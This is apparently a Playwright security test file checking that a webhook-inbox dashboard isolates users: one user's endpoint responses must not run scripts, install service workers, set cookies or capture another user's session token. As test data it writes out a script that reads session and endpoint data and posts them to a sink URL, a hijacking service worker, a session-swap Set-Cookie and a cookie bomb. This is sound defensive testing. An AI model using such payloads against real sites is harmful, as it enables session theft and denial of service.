import Database from "better-sqlite3";
import path from "node:path";
import { expect, test, type APIRequestContext, type Browser, type BrowserContext } from "@playwright/test";
import { baseURL } from "../playwright.config";

/**
 * Issue 9: Alice owns endpoints and configures what they answer; Bob is signed in to the same
 * dashboard and opens her inbound URLs in his browser. Nothing Alice configures may act on Bob's
 * session, and Bob's session cookie must never reach Alice.
 */
test.use({ storageState: { cookies: [], origins: [] } });

async function signedInContext(browser: Browser, email: string): Promise<BrowserContext> {
  const context = await browser.newContext({ baseURL });
  const api = context.request;
  expect((await api.post("/api/users", { data: { email, password: "security-spec-phrase" } })).status()).toBe(201);
  const { csrfToken } = await (await api.get("/api/auth/csrf")).json();
  await api.post("/api/auth/callback/credentials", { form: { csrfToken, email, password: "security-spec-phrase", json: "true" } });
  expect((await api.get("/api/endpoints")).status()).toBe(200);
  return context;
}

async function newEndpoint(api: APIRequestContext, name: string) {
  const res = await api.post("/api/endpoints", { data: { name } });
  expect(res.status()).toBe(201);
  return (await res.json()) as { id: string; slug: string; url: string };
}

async function requestsOf(api: APIRequestContext, endpointId: string) {
  return ((await (await api.get(`/api/endpoints/${endpointId}/requests`)).json()) as { requests: { id: string; path: string }[] }).requests;
}

let n = 0;
const unique = (who: string) => `${who}-${Date.now()}-${n++}@example.com`;

test("a script in an endpoint's response never runs with the visitor's session", async ({ browser }) => {
  const alice = await signedInContext(browser, unique("alice"));
  const bob = await signedInContext(browser, unique("bob"));
  const trap = await newEndpoint(alice.request, "trap");
  const sink = await newEndpoint(alice.request, "sink");
  const script = `<h1 id="owned">owned</h1><script>
    Promise.all(["/api/endpoints", "/api/auth/session"].map((u) => fetch(u).then((r) => r.text())))
      .then((stolen) => fetch("/h/${sink.slug}/stolen", { method: "POST", body: stolen.join("\\n") }));
    document.title = "script ran";
  </script>`;
  const set = await alice.request.patch(`/api/endpoints/${trap.id}`, { data: { response: { headers: [["Content-Type", "text/html"]], body: script } } });
  expect(set.status()).toBe(200);

  const page = await bob.newPage();
  const answer = await page.goto(trap.url);
  expect(answer?.headers()["content-security-policy"]).toContain("sandbox");
  await page.waitForTimeout(1000);
  expect(await page.title()).not.toBe("script ran");
  await expect(page.locator("#owned")).toHaveCount(0); // shown as text, not rendered
  expect(await requestsOf(alice.request, sink.id)).toEqual([]);

  // The same body fetched as a subresource by one of Bob's own pages cannot run either: it is not a
  // document, and nosniff refuses it as a script.
  await page.goto("/endpoints");
  const ran = await page.evaluate(async (src) => {
    const s = document.createElement("script");
    s.src = src;
    const loaded = new Promise((resolve) => { s.onload = () => resolve("loaded"); s.onerror = () => resolve("refused"); });
    document.head.append(s);
    return loaded;
  }, trap.url);
  expect(ran).toBe("refused");
  expect(await requestsOf(alice.request, sink.id)).toEqual([]);
  await alice.close();
  await bob.close();
});

test("an endpoint cannot install a service worker over the dashboard", async ({ browser }) => {
  const alice = await signedInContext(browser, unique("alice"));
  const bob = await signedInContext(browser, unique("bob"));
  const worker = await newEndpoint(alice.request, "worker");
  const refused = await alice.request.patch(`/api/endpoints/${worker.id}`, {
    data: { response: { headers: [["Content-Type", "application/javascript"], ["Service-Worker-Allowed", "/"]], body: "" } },
  });
  expect(refused.status()).toBe(422);
  expect((await refused.json()).error.field).toBe("response.headers.1.0");
  const sw = `self.addEventListener("fetch", (e) => e.respondWith(new Response("<h1>pwned</h1>", { headers: { "Content-Type": "text/html" } })));`;
  expect((await alice.request.patch(`/api/endpoints/${worker.id}`, { data: { response: { headers: [["Content-Type", "application/javascript"]], body: sw } } })).status()).toBe(200);

  const page = await bob.newPage();
  await page.goto("/endpoints");
  // Even a script that somehow ran on the dashboard could not put this worker in charge of it.
  const outcome = await page.evaluate(async (url) => {
    try {
      await navigator.serviceWorker.register(url, { scope: "/" });
      return "registered";
    } catch (err) {
      return (err as Error).name;
    }
  }, `${new URL(worker.url).pathname}/sw.js`);
  expect(outcome).toBe("SecurityError");
  await page.reload();
  await expect(page.getByText("pwned")).toHaveCount(0);
  await expect(page.getByTestId("current-user")).toBeVisible();
  await alice.close();
  await bob.close();
});

test("Set-Cookie and cookie bombs are refused, and dropped even when stored by an older version", async ({ browser }) => {
  const alice = await signedInContext(browser, unique("alice"));
  const bobEmail = unique("bob");
  const bob = await signedInContext(browser, bobEmail);
  const jar = await newEndpoint(alice.request, "jar");
  const aliceSession = (await alice.cookies()).find((c) => c.name.endsWith("next-auth.session-token"))!.value;
  const setCookie = await alice.request.patch(`/api/endpoints/${jar.id}`, {
    data: { response: { headers: [["Set-Cookie", `next-auth.session-token=${aliceSession}; Path=/`]] } },
  });
  expect(setCookie.status()).toBe(422);
  expect((await setCookie.json()).error.message).toContain("Set-Cookie cannot be configured");

  // What an older version could have stored: a session swap and a cookie bomb that would make
  // every page answer 431.
  const bomb = Array.from({ length: 12 }, (_, i) => ["Set-Cookie", `bomb${i}=${"x".repeat(4000)}; Path=/`]);
  const db = new Database(path.join(".e2e-data", "inbox.db"));
  db.prepare(`UPDATE "Endpoint" SET "responseHeaders" = ? WHERE "id" = ?`).run(JSON.stringify([["Set-Cookie", `next-auth.session-token=${aliceSession}; Path=/`], ...bomb]), jar.id);
  db.close();

  const before = (await bob.cookies()).map((c) => `${c.name}=${c.value}`).sort();
  const page = await bob.newPage();
  const answer = await page.goto(jar.url);
  expect(answer?.status()).toBe(200);
  expect((await bob.cookies()).map((c) => `${c.name}=${c.value}`).sort()).toEqual(before);
  await page.goto("/endpoints");
  await expect(page.getByTestId("current-user")).toHaveText(bobEmail);
  await alice.close();
  await bob.close();
});

test("a visitor's session cookie never appears in a captured request", async ({ browser }) => {
  const alice = await signedInContext(browser, unique("alice"));
  const bob = await signedInContext(browser, unique("bob"));
  const inbox = await newEndpoint(alice.request, "inbox");
  const bobSession = (await bob.cookies()).find((c) => c.name.endsWith("next-auth.session-token"))!.value;
  await bob.addCookies([{ name: "theme", value: "dark", url: baseURL }]);

  const page = await bob.newPage();
  await page.goto(`${inbox.url}/from-bob`);
  await page.goto("/endpoints"); // a dashboard page of Bob's sends the other request
  await page.evaluate((url) => fetch(url, { method: "POST", body: "{}", credentials: "include" }), `${inbox.url}/fetched`);

  await expect.poll(async () => (await requestsOf(alice.request, inbox.id)).length).toBe(2);
  for (const r of await requestsOf(alice.request, inbox.id)) {
    const detail = await (await alice.request.get(`/api/endpoints/${inbox.id}/requests/${r.id}`)).text();
    expect(detail).not.toContain(bobSession);
    expect(detail).not.toContain("next-auth.");
    expect(detail).toContain("theme=dark"); // other cookies are kept as sent
  }
  for (const format of ["json", "har"]) {
    expect(await (await alice.request.get(`/api/endpoints/${inbox.id}/export?format=${format}`)).text()).not.toContain(bobSession);
  }
  await alice.close();
  await bob.close();
});
